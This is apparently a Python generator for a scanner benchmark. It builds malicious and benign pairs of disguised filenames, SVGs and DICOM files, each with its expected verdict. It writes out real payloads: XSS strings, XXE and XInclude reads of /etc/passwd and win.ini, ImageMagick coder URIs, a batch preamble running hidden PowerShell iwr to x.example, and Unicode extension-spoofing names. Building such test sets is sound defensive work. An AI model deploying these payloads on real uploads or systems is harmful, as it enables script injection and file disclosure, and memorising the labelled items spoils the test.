"""Evaluation corpus: the ways a file lies about what it is (issue 16, DICOM lines of 11).

Malicious/benign pairs per class, each from its own seed, all payloads inert:

* names: extensions from the generated danger table behind a picture decoy, decoys with
  `_`/`-`/`~1`/padding tails or look-alike letters, every newer picture type as decoy,
  bidi/invisible/dot/padding characters found by property; the benign twins are real
  names with the same characters where they change nothing shown (keycaps, soft hyphen,
  an RLM before a Hebrew copy name, flags, Persian ZWNJ, a no-break space);
* SVG: data: SVGs with script inside use/image/feImage, XInclude, XXE, XSLT, ImageMagick
  coders, xml:base and obfuscated javascript:, wide encodings, an SVG under a picture
  name, active foreignObject HTML, a canvas over the pixel limit; the benign twins are
  Illustrator files with entities, draw.io/Mermaid labels, web fonts, clean wide SVGs;
* DICOM: preambles that are HTML, batch, PDF or ZIP (and another picture), script in text
  values (stored XSS), payloads in item padding, the trailing-padding element, pixel data
  beyond the image, foreign fragments, bytes after a frame's EOI and deflated datasets;
  the benign twins carry vendor preambles, ordinary clinical text, zero padding, clean
  JPEG frames and clean deflated datasets.

`EXPECTED_VERDICT` names what each malicious category must get ("quarantine" or "flag").
"""

from __future__ import annotations

import base64
import random
import struct
import urllib.parse
import zlib

from bench import eval_images as img
from bench import eval_payloads as pay
from bench.recipe import Maker, Recipe

STEMS = ("IMG_2041", "scan", "xray", "wound-photo", "PXL_20240115_093012", "DSC01234")
DANGEROUS_TABLE_EXTENSIONS = (
    "rdp", "msix", "appx", "appinstaller", "vsto", "iqy", "slk", "psm1", "ppam", "xla", "accde",
    "settingcontent-ms", "searchconnector-ms", "library-ms", "cpl", "hta", "wsf", "scr",
)  # fmt: skip
DECOYS = (
    "jpg_", "jpg-", "jpg~1", "JPG~2", "jpg" + "_" * 36, "png" + "-" * 30, "\uff4a\uff50\uff47",
    "\u0458\u0440g", "j\u0440\u0261", "jp2", "jxl", "psd", "qoi", "tga", "pcx", "ppm", "exr",
    "xcf", "heif", "avif", "dng",
)  # fmt: skip
UNICODE_LURES = (
    "{s}_\u202egpj.exe", "{s}\u202d\u202egnp.scr", "{s}.jpg\u200b.exe", "{s}.jpg\u206f.scr",
    "{s}\uff61jpg.exe", "{s}\u2e3cjpg.exe", "{s}\u2219jpg.exe", "{s}\u22c5jpg.scr",
    "{s}\ua78fpng.exe", "{s}.jpg" + "\u1680" * 12 + ".exe", "{s}.jpg" + "\u3164" * 12 + ".exe",
    "{s}.jpg\U0001d173.exe", "{s}.png\u17b5.hta",
)  # fmt: skip
HIDDEN_EXTENSION_LURES = ("{s}.j\u200bpg", "{s}.jp\u206fg", "{s}.pn\ufffbg", "{s}\u202e.jpg")
BENIGN_UNICODE_NAMES = (
    "1\ufe0f\u20e3 {s}.jpg", "#\ufe0f\u20e3 {s}.png", "Ka\u00adtze {s}.jpg",
    "\u200f\u05e7\u05d5\u05d1\u05e5 - \u05e2\u05d5\u05ea\u05e7 {s}.jpg",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f {s}.jpg",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 {s}.jpg", "\u5199\u771f\u30fb{s}.jpg",
    "{s}\u00a0(1).jpg", "{s} rdp session.jpg", "{s}_jpg-export.jpg", "{s}~1.jpg",
    "\u0424\u043e\u0442\u043e {s}.jpg", "\uff50\uff48\uff4f\uff54\uff4f {s}.jpg", "{s}.psd.jpg",
    "{s}.jpg.xmp",
)  # fmt: skip


def _stem(rng: random.Random) -> str:
    return f"{rng.choice(STEMS)}-{rng.randint(1, 999)}"


def _photo(rng: random.Random) -> bytes:
    return img.jpeg(rng)[0]


# --- names ----------------------------------------------------------------------------------


def name_table(rng: random.Random) -> tuple[str, bytes, str]:
    ext = rng.choice(DANGEROUS_TABLE_EXTENSIONS)
    decoy = rng.choice(["jpg", "png", "JPG", "heic", "pdf"])
    return f"{_stem(rng)}.{decoy}.{ext}", _photo(rng), f"table extension .{ext}"


def name_decoy(rng: random.Random) -> tuple[str, bytes, str]:
    decoy = rng.choice(DECOYS)
    return f"{_stem(rng)}.{decoy}.{rng.choice(['exe', 'scr', 'js', 'lnk'])}", _photo(rng), decoy


def name_unicode(rng: random.Random) -> tuple[str, bytes, str]:
    template = rng.choice(UNICODE_LURES)
    return template.format(s=_stem(rng)), _photo(rng), "unicode lure"


def name_hidden(rng: random.Random) -> tuple[str, bytes, str]:
    template = rng.choice(HIDDEN_EXTENSION_LURES)
    return template.format(s=_stem(rng)), _photo(rng), "invisible inside the extension"


def name_benign(rng: random.Random) -> tuple[str, bytes, str]:
    template = rng.choice(BENIGN_UNICODE_NAMES)
    return template.format(s=_stem(rng)), _photo(rng), "ordinary unicode name"


# --- SVG ------------------------------------------------------------------------------------

SVG_NS = b'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def _svg(body: bytes, root: bytes = b"") -> bytes:
    return b"<svg " + SVG_NS + root + b' width="120" height="80">' + body + b"</svg>\n"


def _data_svg(inner: bytes, rng: random.Random) -> bytes:
    if rng.random() < 0.5:
        return b"data:image/svg+xml;base64," + base64.b64encode(inner)
    return b"data:image/svg+xml," + urllib.parse.quote(inner.decode()).encode()


NESTED_PLAIN = b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4" fill="#09c"/></svg>'
NESTED_ACTIVE = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//x.example")</script></svg>',
    b'<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><rect/></a></svg>',
)


def svg_nested(rng: random.Random, evil: bool = True) -> tuple[str, bytes, str]:
    inner = rng.choice(NESTED_ACTIVE) if evil else NESTED_PLAIN
    ref = _data_svg(inner, rng)
    element = rng.choice(
        [
            b'<use href="' + ref + b'#a"/>',
            b'<image xlink:href="' + ref + b'" width="9" height="9"/>',
            b'<filter id="f"><feImage href="' + ref + b'"/></filter><rect filter="url(#f)"/>',
        ]
    )
    data = img.svg(rng)[0].replace(b"</svg>", element + b"</svg>")
    return f"logo-{rng.randint(1, 999)}.svg", data, "nested data: SVG"


SVG_FILE_READS = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude" '
    b'width="99" height="40"><text><xi:include href=".?../../../etc/passwd" parse="text"/>'
    b"</text></svg>",
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]>'
    + _svg(b"<text>&x;</text>"),
    b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xsl,x"?>'
    + _svg(b'<rect width="9" height="9"/>'),
)
SVG_IMAGEMAGICK = tuple(
    _svg(element)
    for element in (
        b'<image xlink:href="msl:/tmp/x.msl" width="9" height="9"/>',
        b'<image href="text:/etc/passwd" width="9" height="9"/>',
        b'<image href="label:@/etc/passwd"/>',
        b'<rect fill="url(ephemeral:/tmp/x.svg)" width="9" height="9"/>',
        b'<image href="vid:msl:/tmp/x"/>',
        b'<rect style="fill:url(mvg:/tmp/a.mvg)" width="9" height="9"/>',
    )
)
SVG_JS_URLS = tuple(
    _svg(element)
    for element in (
        b'<g xml:base="javascript:alert(1)//"><a xlink:href="x">'
        b'<rect width="9" height="9"/></a></g>',
        b'<a xlink:href="&#x6A;ava&#x0A;script&#x3A;alert(1)"><rect width="9" height="9"/></a>',
        b'<a href=" JaVaScRiPt\t:alert(document.cookie)"><text>open</text></a>',
        b'<a href="&#106;&#97;&#118;&#97;script&#58;alert(1)"><text>x</text></a>',
    )
)
ILLUSTRATOR = (
    b'<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: Adobe Illustrator 24.0.0 -->\n'
    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [\n'
    b'\t<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">\n'
    b'\t<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">\n'
    b'\t<!ENTITY ns_svg "http://www.w3.org/2000/svg">\n'
    b'\t<!ENTITY ns_xlink "http://www.w3.org/1999/xlink">\n]>\n'
    b'<svg version="1.1" xmlns:x="&ns_extend;" xmlns:i="&ns_ai;" xmlns="&ns_svg;" '
    b'xmlns:xlink="&ns_xlink;" width="200px" height="100px" viewBox="0 0 200 100">'
    b'<rect width="10" height="10" fill="#c00"/></svg>\n'
)
DIAGRAM = _svg(
    b'<g class="node"><foreignObject width="80" height="24"><div '
    b'xmlns="http://www.w3.org/1999/xhtml" style="display: table-cell; white-space: nowrap;">'
    b'<span class="nodeLabel"><p>Check-in <b>desk</b></p></span></div></foreignObject></g>'
    b'<switch><foreignObject requiredFeatures="http://www.w3.org/TR/SVG11/feature#Extensibility">'
    b'<div xmlns="http://www.w3.org/1999/xhtml"><div style="font-size: 12px;">Waiting room'
    b"<br/>2nd floor</div></div></foreignObject>"
    b'<a xlink:href="https://www.drawio.com/doc/faq/svg-export-text-problems" target="_blank">'
    b"<text>Text is not SVG - cannot display</text></a></switch>"
    b"<style>@import url('https://fonts.googleapis.com/css2?family=Inter&amp;display=swap');"
    b"</style>"
)


def svg_from(samples: tuple[bytes, ...], note: str) -> Maker:
    def make(rng: random.Random) -> tuple[str, bytes, str]:
        return f"drawing-{rng.randint(1, 999)}.svg", rng.choice(samples), note

    return make


def svg_as_picture(rng: random.Random, evil: bool = True) -> tuple[str, bytes, str]:
    data = img.svg(rng)[0]
    if evil:
        data = data.replace(b"</svg>", b"<script>alert(document.domain)</script></svg>")
    name = f"{_stem(rng)}.{rng.choice(['png', 'jpg', 'JPG', 'webp', 'gif'])}"
    return name, data, "SVG under a picture name"


def svg_wide(rng: random.Random, evil: bool = True) -> tuple[str, bytes, str]:
    codec = rng.choice(["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le"])
    declared = rng.random() < 0.5
    body = _svg(b"<script>alert(1)</script>" if evil else b'<rect width="9" height="9"/>')
    text = f'<?xml version="1.0" encoding="{codec.upper()}"?>\n' if declared else ""
    return f"icon-{rng.randint(1, 999)}.svg", (text + body.decode()).encode(codec), codec


def svg_foreign_active(rng: random.Random) -> tuple[str, bytes, str]:
    html = rng.choice(
        [
            b'<form action="https://x.example"><input type="password"/></form>',
            b'<video src="https://x.example/v.mp4"/>',
            b"<textarea>pw</textarea>",
        ]
    )
    return "chart.svg", DIAGRAM.replace(b"<br/>", html), "active HTML in foreignObject"


def svg_canvas(rng: random.Random) -> tuple[str, bytes, str]:
    side = rng.choice([20000, 30000, 65535])
    data = b'<svg xmlns="http://www.w3.org/2000/svg" width="%d" height="%d"/>' % (side, side)
    return "plan.svg", data, f"{side}x{side} canvas"


# --- DICOM ----------------------------------------------------------------------------------

UNDEFINED = struct.pack("<I", 0xFFFFFFFF)
ITEM_TAG = struct.pack("<HH", 0xFFFE, 0xE000)
SEQ_END = struct.pack("<HHI", 0xFFFE, 0xE0DD, 0)
SYNTAXES = {
    "explicit": b"1.2.840.10008.1.2.1",
    "implicit": b"1.2.840.10008.1.2",
    "jpeg": b"1.2.840.10008.1.2.4.50",
    "deflated": b"1.2.840.10008.1.2.1.99",
}
XSS = (
    b"<script>alert(document.cookie)</script>",
    b'<img src=x onerror="fetch(1)">',
    b"<svg/onload=alert(1)>",
    b"<iframe src=javascript:alert(1)>",
)
BAD_PREAMBLES = (
    b"\r\n<html><body><script>alert(1)</script></body></html>",
    b"\xef\xbb\xbf<html><script>document.write(1)</script></html>",
    b"@echo off\r\npowershell -w hidden -c iwr http://x.example\r\n",
    b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
    b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(16) + b"\x07\x00\x00\x00run.bat",
)


def _el(group: int, element: int, vr: bytes, value: bytes, explicit: bool) -> bytes:
    return img.dicom_element(group, element, vr, value, explicit)


def dicom_file(
    rng: random.Random,
    *,
    syntax: str = "explicit",
    preamble: bytes | None = None,
    texts: dict[tuple[int, int], tuple[bytes, bytes]] | None = None,
    extra: bytes = b"",
    pixel_extra: bytes = b"",
    fragments: tuple[bytes, ...] = (),
    tail: bytes = b"",
) -> bytes:
    """A DICOM file with the given texts, extra elements (tags between 0028,0100 and 7FE0)
    and pixel data (native, or encapsulated JPEG fragments); deflated when asked."""
    explicit = syntax != "implicit"
    rows, cols = rng.randint(4, 32), rng.randint(4, 32)
    values = {
        (0x0008, 0x0060): (b"CS", rng.choice([b"CR", b"OT", b"XC"])),
        (0x0008, 0x1030): (b"LO", rng.choice(img.PROSE).encode("ascii", "replace")[:64]),
        (0x0010, 0x0010): (b"PN", rng.choice([b"Doe^Jane", b"O'Brien^Mary-Kate"])),
    }
    values.update(texts or {})
    body = b"".join(_el(g, e, vr, v, explicit) for (g, e), (vr, v) in sorted(values.items()))
    body += (
        _el(0x0028, 0x0002, b"US", struct.pack("<H", 1), explicit)
        + _el(0x0028, 0x0010, b"US", struct.pack("<H", rows), explicit)
        + _el(0x0028, 0x0011, b"US", struct.pack("<H", cols), explicit)
        + _el(0x0028, 0x0100, b"US", struct.pack("<H", 8), explicit)
        + extra
    )
    if syntax == "jpeg":
        frames = fragments or (img._save(img.photo_image(rng, (cols, rows), "L"), "JPEG"),)
        items = ITEM_TAG + struct.pack("<I", 0)
        for frame in frames:
            frame += b"\x00" * (len(frame) % 2)
            items += ITEM_TAG + struct.pack("<I", len(frame)) + frame
        body += struct.pack("<HH", 0x7FE0, 0x0010) + b"OB\x00\x00" + UNDEFINED + items + SEQ_END
    else:
        body += _el(0x7FE0, 0x0010, b"OB", rng.randbytes(rows * cols) + pixel_extra, explicit)
    if syntax == "deflated":
        packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        body = packer.compress(body) + packer.flush()
    meta_body = (
        _el(0x0002, 0x0001, b"OB", b"\x00\x01", True)
        + _el(0x0002, 0x0002, b"UI", b"1.2.840.10008.5.1.4.1.1.7", True)
        + _el(0x0002, 0x0003, b"UI", f"1.2.826.0.1.{rng.randint(1, 99999)}".encode(), True)
        + _el(0x0002, 0x0010, b"UI", SYNTAXES[syntax], True)
    )
    meta = _el(0x0002, 0x0000, b"UL", struct.pack("<I", len(meta_body)), True) + meta_body
    if preamble is None:
        preamble = rng.choice(
            [
                bytes(128),
                b"II*\x00\x08\x00\x00\x00",
                b"ACME PACS export 4.2 (c) Acme Imaging".ljust(128, b" "),
            ]
        )
    return preamble.ljust(128, b"\x00")[:128] + b"DICM" + meta + body + tail


def _dcm_name(rng: random.Random) -> str:
    return f"{rng.choice(['study', 'IM', 'xray', 'CT'])}{rng.randint(1, 99999):05d}.dcm"


def dicom_preamble(rng: random.Random) -> tuple[str, bytes, str]:
    preamble = rng.choice(BAD_PREAMBLES)
    return _dcm_name(rng), dicom_file(rng, preamble=preamble), f"preamble {preamble[:12]!r}"


def dicom_picture_preamble(rng: random.Random) -> tuple[str, bytes, str]:
    magic = rng.choice(
        [b"GIF89a\x01\x00\x01\x00\x80\x00\x00", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0"]
    )
    return _dcm_name(rng), dicom_file(rng, preamble=magic), "picture signature preamble"


def dicom_text(rng: random.Random) -> tuple[str, bytes, str]:
    tag, vr = rng.choice(
        [
            ((0x0010, 0x0010), b"PN"),
            ((0x0008, 0x1030), b"LO"),
            ((0x0020, 0x4000), b"LT"),
            ((0x0008, 0x0080), b"LO"),
        ]
    )
    syntax = rng.choice(["explicit", "implicit", "deflated"])
    data = dicom_file(rng, syntax=syntax, texts={tag: (vr, rng.choice(XSS))})
    return _dcm_name(rng), data, f"stored XSS in ({tag[0]:04X},{tag[1]:04X}) {syntax}"


def _padded_item(padding: bytes, explicit: bool) -> bytes:
    inner = _el(0x0008, 0x0100, b"SH", b"T-D1100", explicit)
    item = ITEM_TAG + struct.pack("<I", len(inner) + len(padding)) + inner + padding
    if explicit:
        return struct.pack("<HH", 0x0040, 0x0260) + b"SQ\x00\x00" + UNDEFINED + item + SEQ_END
    return struct.pack("<HH", 0x0040, 0x0260) + UNDEFINED + item + SEQ_END


def _hidden_payload(rng: random.Random) -> bytes:
    return rng.choice([pay.zip_archive, pay.php_script, pay.html_page, pay.pdf_document])(rng)


def dicom_hidden(rng: random.Random, evil: bool = True) -> tuple[str, bytes, str]:
    place = rng.choice(
        [
            "item-padding",
            "trailing-padding",
            "beyond-pixels",
            "fragment",
            "after-eoi",
            "deflated-padding",
        ]
    )
    hidden = _hidden_payload(rng) if evil else bytes(rng.choice([2, 16, 64]))
    if place in ("item-padding", "deflated-padding"):
        syntax = "deflated" if place == "deflated-padding" else "explicit"
        data = dicom_file(rng, syntax=syntax, extra=_padded_item(hidden, True))
    elif place == "trailing-padding":
        data = dicom_file(rng, tail=img.dicom_element(0xFFFC, 0xFFFC, b"OB", hidden))
    elif place == "beyond-pixels":
        data = dicom_file(rng, pixel_extra=hidden if evil else b"")
    else:
        frame = img._save(img.photo_image(rng, (16, 16), "L"), "JPEG")
        frames = (
            (frame + hidden,) if place == "after-eoi" else (frame, hidden) if evil else (frame,)
        )
        data = dicom_file(rng, syntax="jpeg", fragments=frames)
    return _dcm_name(rng), data, f"{'payload' if evil else 'zeros'} in {place}"


def dicom_benign(rng: random.Random) -> tuple[str, bytes, str]:
    kind = rng.choice(["hidden-zeros", "deflated", "vendor", "text"])
    if kind == "hidden-zeros":
        return dicom_hidden(rng, evil=False)
    if kind == "deflated":
        return _dcm_name(rng), dicom_file(rng, syntax="deflated"), "clean deflated dataset"
    if kind == "vendor":
        preamble = rng.choice([b"R_1F7AAEBA350A455F", b"<vendor>Acme</vendor>", b"GEMS PACS 12"])
        return _dcm_name(rng), dicom_file(rng, preamble=preamble), "vendor preamble"
    texts = {
        (0x0008, 0x1030): (b"LO", b"Chest PA & lateral <2 views>"),
        (0x0020, 0x4000): (b"LT", b"Post-op wound eval(day 3); compare prior"),
    }
    return _dcm_name(rng), dicom_file(rng, texts=texts), "clinical text with < & eval("


# --- the recipe list ------------------------------------------------------------------------


RECIPES: tuple[Recipe, ...] = (
    Recipe("malicious/disguise-name-table", True, 18, name_table),
    Recipe("malicious/disguise-name-decoy", True, 21, name_decoy),
    Recipe("malicious/disguise-name-unicode", True, 20, name_unicode),
    Recipe("malicious/disguise-name-hidden-ext", True, 8, name_hidden),
    Recipe("benign/disguise-name-unicode", False, 30, name_benign),
    Recipe("malicious/disguise-svg-nested", True, 12, svg_nested),
    Recipe("benign/disguise-svg-nested", False, 8, lambda rng: svg_nested(rng, evil=False)),
    Recipe("malicious/disguise-svg-file-read", True, 9, svg_from(SVG_FILE_READS, "file read")),
    Recipe("malicious/disguise-svg-imagemagick", True, 12, svg_from(SVG_IMAGEMAGICK, "coder")),
    Recipe("malicious/disguise-svg-javascript", True, 8, svg_from(SVG_JS_URLS, "javascript:")),
    Recipe("malicious/disguise-svg-as-picture", True, 10, svg_as_picture),
    Recipe(
        "malicious/disguise-svg-as-picture-plain",
        True,
        6,
        lambda rng: svg_as_picture(rng, evil=False),
    ),
    Recipe("malicious/disguise-svg-wide", True, 10, svg_wide),
    Recipe("benign/disguise-svg-wide", False, 10, lambda rng: svg_wide(rng, evil=False)),
    Recipe("malicious/disguise-svg-foreign-active", True, 6, svg_foreign_active),
    Recipe("malicious/disguise-svg-canvas", True, 5, svg_canvas),
    Recipe(
        "benign/disguise-svg-editors",
        False,
        10,
        svg_from((ILLUSTRATOR, DIAGRAM), "Illustrator entities, diagram labels, web font"),
    ),
    Recipe("malicious/disguise-dicom-preamble", True, 15, dicom_preamble),
    Recipe("malicious/disguise-dicom-picture-preamble", True, 6, dicom_picture_preamble),
    Recipe("malicious/disguise-dicom-text", True, 16, dicom_text),
    Recipe("malicious/disguise-dicom-hidden", True, 24, dicom_hidden),
    Recipe("benign/disguise-dicom", False, 24, dicom_benign),
)
EXPECTED_VERDICT: dict[str, str] = {r.category: "quarantine" for r in RECIPES if r.malicious}
EXPECTED_VERDICT.update(
    {
        "malicious/disguise-name-hidden-ext": "flag",  # no program runs: the name still lies
        "malicious/disguise-svg-as-picture-plain": "flag",
        "malicious/disguise-svg-foreign-active": "flag",
        "malicious/disguise-dicom-picture-preamble": "flag",
    }
)
